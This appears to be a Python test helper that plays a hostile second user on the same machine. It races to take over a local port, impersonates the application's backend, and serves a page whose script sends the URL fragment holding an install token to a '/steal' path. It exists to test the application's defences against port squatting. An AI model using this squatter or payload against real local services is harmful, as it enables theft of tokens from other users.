"""Another user of the machine, lying in wait for 127.0.0.1:7810.

usage: squatter.py ORDERS LAIR

Run by harness.py (--squatter) as a second throwaway user. The test, as the
application's user, gives orders by writing ORDERS/order:
  "take FIRST"  bind the port as soon as it is free (retried every 5 ms), and
                answer the first connection after that as FIRST says
                ("silent": never; "garbage": not JSON; "name": like the rest);
  "off"         let go of the port.
While it holds the port it keeps LAIR/holding. It answers the ping, and every
other request, as our backend's ping would, {"name":"tarvo-studio"}, except
"/", which gets a page whose script sends its own address's fragment back
(where the window address carries the install token). Every byte received is
appended to LAIR/received.
"""

import ctypes
import os
import signal
import socket
import sys
import threading
import time

PR_SET_PDEATHSIG = 1
ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGKILL)

ORDERS, LAIR = sys.argv[1], sys.argv[2]
HOLDING = os.path.join(LAIR, "holding")
RECEIVED = os.path.join(LAIR, "received")
NAME = b'{"name":"tarvo-studio"}'
PAGE = (b"<!doctype html><title>Tarvo Studio</title><script>"
        b"fetch('/steal?h=' + encodeURIComponent(location.hash));</script>")
lock = threading.Lock()


def record(data):
    with lock, open(RECEIVED, "ab") as out:
        out.write(data)


def reply(body, kind):
    return (b"HTTP/1.1 200 OK\r\nContent-Type: " + kind + b"\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)


def serve(connection, answer):
    with connection:
        connection.settimeout(10)
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                chunk = connection.recv(65536)
                if not chunk:
                    return
                data += chunk
                record(chunk)
            if answer == "silent":
                while connection.recv(65536):
                    pass
                return
            if answer == "garbage":
                connection.sendall(reply(b"<html>busy</html>", b"text/html"))
            elif data.startswith(b"GET / ") or data.startswith(b"GET /#"):
                connection.sendall(reply(PAGE, b"text/html"))
            else:
                connection.sendall(reply(NAME, b"application/json"))
            connection.settimeout(0.5)
            while True:
                chunk = connection.recv(65536)
                if not chunk:
                    return
                record(chunk)
        except OSError:
            pass


def order():
    try:
        with open(os.path.join(ORDERS, "order"), encoding="utf-8") as f:
            return f.read().split()
    except OSError:
        return ["off"]


listener = None
first = None
while True:
    wanted = order()
    if wanted[:1] == ["take"] and listener is None:
        candidate = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        candidate.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            candidate.bind(("127.0.0.1", 7810))
            candidate.listen(16)
            candidate.settimeout(0.005)
            listener = candidate
            first = wanted[1] if len(wanted) > 1 else "name"
            with open(HOLDING, "w", encoding="utf-8"):
                pass
        except OSError:
            candidate.close()
    elif wanted[:1] != ["take"] and listener is not None:
        listener.close()
        listener = None
        os.remove(HOLDING)
    if listener is None:
        time.sleep(0.005)
        continue
    try:
        client, _ = listener.accept()
    except (socket.timeout, BlockingIOError):
        continue
    answer, first = first, None
    threading.Thread(target=serve, args=(client, answer or "name"), daemon=True).start()
